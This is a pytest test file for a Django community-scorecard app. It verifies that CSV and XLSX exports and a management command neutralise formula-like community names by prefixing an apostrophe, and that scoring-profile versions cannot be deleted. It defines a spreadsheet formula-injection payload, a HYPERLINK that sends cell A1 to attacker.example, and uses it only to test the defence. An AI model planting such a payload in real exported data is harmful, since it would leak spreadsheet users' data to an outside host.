"""Exports never carry a live formula, and scoring-profile versions are never deleted."""

import csv
import io

import pytest
from django.core.management import call_command
from django.db.models import ProtectedError
from openpyxl import load_workbook

from welcoming.accounts.models import User
from welcoming.core.models import Community
from welcoming.scorecards.selectors import scoring_profile_current

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("cma_data")]

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Toronto")'


@pytest.fixture
def renamed(cma_data: None) -> None:
    toronto = Community.objects.get(code="535")
    toronto.name_en = toronto.name_fr = FORMULA
    toronto.save()


@pytest.mark.usefixtures("renamed")
def test_a_community_named_like_a_formula_is_exported_as_text_in_csv(client) -> None:
    response = client.get("/en/compare/", {"codes": "535,933", "period": "2023", "format": "csv"})
    names = [row[1] for row in csv.reader(io.StringIO(response.content.decode()))]
    assert "'" + FORMULA in names
    assert FORMULA not in names


@pytest.mark.usefixtures("renamed")
def test_a_community_named_like_a_formula_is_exported_as_text_in_xlsx(client) -> None:
    response = client.get("/fr/compare/", {"codes": "535,933", "period": "2023", "format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not any(cell.data_type == "f" for cell in cells)
    assert "'" + FORMULA in [cell.value for cell in cells]


@pytest.mark.usefixtures("renamed")
def test_the_scorecard_command_writes_no_formula_either() -> None:
    out = io.StringIO()
    call_command("scorecard", "535", "--period", "2023", "--format", "csv", stdout=out)
    names = {row[1] for row in list(csv.reader(io.StringIO(out.getvalue())))[1:]}
    assert names == {"'" + FORMULA}


def test_a_profile_version_cannot_be_deleted() -> None:
    profile = scoring_profile_current(name="default")
    with pytest.raises(ProtectedError):
        profile.delete()
    assert type(profile).objects.filter(pk=profile.pk).exists()


def test_the_admin_offers_no_delete_for_profile_versions(client) -> None:
    profile = scoring_profile_current(name="default")
    client.force_login(User.objects.create_superuser("synthetic-admin", "a@example.org", "pw"))
    base = "/en/admin/scorecards/scoringprofile/"
    assert client.get(f"{base}{profile.pk}/delete/").status_code == 403
    assert client.post(f"{base}{profile.pk}/delete/", {"post": "yes"}).status_code == 403
    listing = client.get(base)
    assert "delete_selected" not in listing.content.decode()
    assert type(profile).objects.filter(pk=profile.pk).exists()
